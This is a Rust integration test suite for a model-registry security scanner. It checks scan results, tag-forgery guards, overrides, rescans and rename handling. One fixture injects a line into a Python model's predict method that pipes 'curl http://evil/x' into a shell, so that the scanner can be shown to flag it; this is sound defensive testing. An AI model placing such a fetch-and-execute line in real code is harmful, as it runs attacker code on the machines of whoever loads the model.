//! The scan lifecycle on both backends: a version a client registers is scanned in the background and
//! becomes `passed` or `failed` with its report; scanner tags cannot be forged; rescans and overrides
//! are recorded; a scan job whose worker died (its lease left running) is finished by the next worker.

use actix_web::test::TestRequest;
use serde_json::{json, Value};

use crate::common::{assert_err, Backend};
use crate::{app, backend_tests, eventually};

/// The files of a package made from the submission template, with `model_py` as its code.
pub fn template_files(model_py: &str) -> Vec<(&'static str, String)> {
    vec![
        ("MLmodel", "flavors:\n  python_function:\n    artifacts:\n      weights:\n        path: artifacts/weights.json\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.pyfunc.loaders.code_model\n    model_code_path: /work/model.py\n    python_version: 3.11.7\nmlflow_version: 3.17.2\nsaved_input_example_info:\n  artifact_path: input_example.json\n  pandas_orient: split\n  serving_input_path: serving_input_example.json\n  type: dataframe\nsignature:\n  inputs: '[{\"type\": \"double\", \"name\": \"x1\", \"required\": true}, {\"type\": \"double\", \"name\": \"x2\", \"required\": true}]'\n  outputs: '[{\"type\": \"double\", \"name\": \"score\", \"required\": true}]'\n  params: null\n".into()),
        ("model.py", model_py.into()),
        ("artifacts/weights.json", harvester::template::FILES[2].1.into()),
        ("input_example.json", "{\"columns\": [\"x1\", \"x2\"], \"data\": [[1.0, 0.5]]}".into()),
        ("requirements.txt", "mlflow==3.17.2\npandas==2.2.3\nnumpy==2.2.6\n".into()),
        ("python_env.yaml", "python: 3.11.7\nbuild_dependencies:\n- pip==23.2.1\n- setuptools==65.5.0\n- wheel\ndependencies:\n- -r requirements.txt\n".into()),
        ("conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=23.2.1\n- pip:\n  - mlflow==3.17.2\nname: mlflow-env\n".into()),
    ]
}

/// The template's model with one malicious line in `predict` (line 26 of the file).
pub fn malicious_model() -> String {
    harvester::template::FILES[0].1.replacen(
        "        w = self.weights\n",
        "        w = self.weights\n        __import__(\"os\").system(\"curl http://evil/x | sh\")\n",
        1,
    )
}

pub fn template_model() -> &'static str {
    harvester::template::FILES[0].1
}

/// Upload `files` as the run's `model/` folder and register them as a new version of `name`.
macro_rules! register {
    ($t:expr, $name:expr, $files:expr) => {{
        let exp = $t.create_experiment(&format!("scan-{}", $name)).await;
        let run = $t.create_run(&exp).await;
        for (path, body) in $files {
            let (s, _, b) = $t
                .raw(TestRequest::put()
                    .uri(&format!("/api/2.0/mlflow-artifacts/artifacts/{exp}/{run}/artifacts/model/{path}"))
                    .set_payload(body.clone()))
                .await;
            assert!((200..300).contains(&s), "upload {path}: {s} {b:?}");
        }
        let _ = $t.post("registered-models/create", json!({"name": $name})).await;
        let v = $t
            .ok("model-versions/create", json!({"name": $name, "source": format!("runs:/{run}/model"), "run_id": run}))
            .await;
        v["model_version"]["version"].as_str().unwrap().to_string()
    }};
}

macro_rules! scan_of {
    ($t:expr, $name:expr, $v:expr) => {{
        let (_, _, body) = $t
            .raw(TestRequest::get().uri(&format!("/api/harvester/v1/scans/{}/{}", $name, $v)))
            .await;
        serde_json::from_slice::<Value>(&body).unwrap()
    }};
}

macro_rules! settled {
    ($t:expr, $name:expr, $v:expr) => {
        eventually!(30, "the scan to finish", {
            let s = scan_of!($t, $name, $v);
            (s["scan_status"] != "pending").then_some(s)
        })
    };
}

fn tag(mv: &Value, key: &str) -> Option<String> {
    mv["tags"]
        .as_array()?
        .iter()
        .find(|t| t["key"] == key)
        .map(|t| t["value"].as_str().unwrap_or("").to_string())
}

async fn client_versions_are_scanned(b: Backend) {
    let t = app!(b, |c| c.job_poll_ms = 20);
    let good = register!(t, "tpl-good", template_files(template_model()));
    let s = settled!(t, "tpl-good", good);
    assert_eq!(s["status"], "passed", "{s}");
    assert_eq!(s["report"]["validated"], true, "{s}");
    let mv = t
        .ok_get(&format!("model-versions/get?name=tpl-good&version={good}"))
        .await;
    assert_eq!(
        tag(&mv["model_version"], "harvester.scan.status").as_deref(),
        Some("passed")
    );
    assert_eq!(
        tag(&mv["model_version"], "harvester.scan.high").as_deref(),
        Some("0")
    );

    let bad = register!(t, "tpl-bad", template_files(&malicious_model()));
    let s = settled!(t, "tpl-bad", bad);
    assert_eq!(s["status"], "failed", "{s}");
    let f = s["report"]["findings"].as_array().unwrap();
    let hit = f
        .iter()
        .find(|f| f["rule"] == "B605")
        .unwrap_or_else(|| panic!("{s}"));
    assert_eq!(
        (hit["file"].as_str(), hit["line"].as_u64()),
        (Some("model.py"), Some(26)),
        "{hit}"
    );
    assert!(hit["snippet"].as_str().unwrap().contains("system"), "{hit}");
    let mv = t
        .ok_get(&format!("model-versions/get?name=tpl-bad&version={bad}"))
        .await;
    assert_eq!(
        tag(&mv["model_version"], "harvester.scan.status").as_deref(),
        Some("failed")
    );

    // A version whose source holds no model fails validation; a source that cannot be read is `error`.
    let empty = register!(t, "not-a-model", vec![("notes.txt", "hello".to_string())]);
    let s = settled!(t, "not-a-model", empty);
    assert_eq!(s["status"], "failed", "{s}");
    assert!(
        s["report"]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "HV-VAL-MLMODEL"),
        "{s}"
    );
    let _ = t
        .post("registered-models/create", json!({"name": "elsewhere"}))
        .await;
    t.ok(
        "model-versions/create",
        json!({"name": "elsewhere", "source": "s3://no-such-bucket/m"}),
    )
    .await;
    let s = settled!(t, "elsewhere", 1);
    assert_eq!(s["status"], "error", "{s}");
    assert!(s["error"].as_str().is_some_and(|e| !e.is_empty()), "{s}");

    // Prompts have no files and are not scanned.
    let _ = t
        .post(
            "registered-models/create",
            json!({"name": "p", "tags": [{"key": "mlflow.prompt.is_prompt", "value": "true"}]}),
        )
        .await;
    t.ok("model-versions/create", json!({"name": "p", "source": "dummy-source", "tags": [{"key": "mlflow.prompt.is_prompt", "value": "true"}, {"key": "mlflow.prompt.text", "value": "hi"}]})).await;
    let (s, _, _) = t
        .raw(TestRequest::get().uri("/api/harvester/v1/scans/p/1"))
        .await;
    assert_eq!(s, 404);
}

async fn scan_tags_cannot_be_forged(b: Backend) {
    let t = app!(b, |c| c.job_poll_ms = 20);
    let v = register!(t, "forge", template_files(template_model()));
    settled!(t, "forge", v);
    let r = t.post("model-versions/set-tag", json!({"name": "forge", "version": v, "key": "harvester.scan.status", "value": "passed"})).await;
    assert_err(&r, 403, "PERMISSION_DENIED");
    let r = t
        .call(
            actix_web::http::Method::DELETE,
            "model-versions/delete-tag",
            json!({"name": "forge", "version": v, "key": "harvester.scan.status"}),
        )
        .await;
    assert_err(&r, 403, "PERMISSION_DENIED");
    let r = t.post("model-versions/create", json!({"name": "forge", "source": "s3://b/m", "tags": [{"key": "harvester.scan.status", "value": "passed"}]})).await;
    assert_err(&r, 403, "PERMISSION_DENIED");
    // Other tags are untouched by the guard.
    t.ok(
        "model-versions/set-tag",
        json!({"name": "forge", "version": v, "key": "harvester.scanned_by_me", "value": "x"}),
    )
    .await;
}

async fn rescan_and_override_are_recorded(b: Backend) {
    let t = app!(b, |c| c.job_poll_ms = 20);
    let v = register!(t, "ovr", template_files(&malicious_model()));
    assert_eq!(settled!(t, "ovr", v)["status"], "failed");
    let post = |path: String, body: Value| TestRequest::post().uri(&path).set_json(body);
    let (s, _, body) = t
        .raw(post(
            format!("/api/harvester/v1/scans/ovr/{v}/override"),
            json!({"status": "passed"}),
        ))
        .await;
    assert_eq!(s, 400, "{body:?}");
    let (s, _, body) = t
        .raw(post(
            format!("/api/harvester/v1/scans/ovr/{v}/override"),
            json!({"status": "passed", "reason": "reviewed: the curl is a test fixture"}),
        ))
        .await;
    assert!((200..300).contains(&s), "{body:?}");
    let rec = scan_of!(t, "ovr", v);
    assert_eq!(
        (rec["status"].as_str(), rec["scan_status"].as_str()),
        (Some("passed"), Some("failed")),
        "{rec}"
    );
    assert_eq!(
        rec["override"]["reason"],
        "reviewed: the curl is a test fixture"
    );
    let mv = t
        .ok_get(&format!("model-versions/get?name=ovr&version={v}"))
        .await;
    assert_eq!(
        tag(&mv["model_version"], "harvester.scan.status").as_deref(),
        Some("passed")
    );
    let (s, _, _) = t
        .raw(post(
            format!("/api/harvester/v1/scans/ovr/{v}/rescan"),
            json!({}),
        ))
        .await;
    assert!((200..300).contains(&s));
    let rec = eventually!(30, "the rescan", {
        let r = scan_of!(t, "ovr", v);
        (r["history"].as_array().unwrap().len() >= 5).then_some(r)
    });
    let events: Vec<&str> = rec["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["event"].as_str().unwrap())
        .collect();
    assert_eq!(
        events,
        ["created", "scanned", "override", "rescan", "scanned"],
        "{rec}"
    );
    // The new scan supersedes the override.
    assert_eq!(
        (rec["status"].as_str(), rec["override"].is_null()),
        (Some("failed"), true),
        "{rec}"
    );
    let (s, _, _) = t
        .raw(TestRequest::get().uri("/api/harvester/v1/scans/ovr/99"))
        .await;
    assert_eq!(s, 404);
    let (s, _, _) = t
        .raw(TestRequest::get().uri("/api/harvester/v1/scans/ovr/x"))
        .await;
    assert_eq!(s, 400);
}

/// A model renamed while its version's scan is pending: the scan was queued under the old name, and still
/// finishes, under the new one (before, it stayed `pending` for ever).
async fn a_rename_does_not_strand_a_pending_scan(b: Backend) {
    let t = app!(b, |c| c.job_poll_ms = 20);
    let mut files = template_files(template_model());
    // Enough Python that the scan is still to come (or under way) when the rename lands.
    files.push(("big.py", "x = [1, 2, 3]\n".repeat(200_000)));
    let v = register!(t, "before-rename", files);
    let s = scan_of!(t, "before-rename", v);
    t.ok(
        "registered-models/rename",
        json!({"name": "before-rename", "new_name": "after-rename"}),
    )
    .await;
    let after = settled!(t, "after-rename", v);
    assert_eq!(after["status"], "passed", "{after}");
    assert_eq!(
        s["scan_status"], "pending",
        "the scan had finished before the rename: {s}"
    );
    let mv = t
        .ok_get(&format!("model-versions/get?name=after-rename&version={v}"))
        .await;
    assert_eq!(
        tag(&mv["model_version"], "harvester.scan.status").as_deref(),
        Some("passed")
    );
}

backend_tests!(
    client_versions_are_scanned,
    scan_tags_cannot_be_forged,
    rescan_and_override_are_recorded,
    a_rename_does_not_strand_a_pending_scan
);
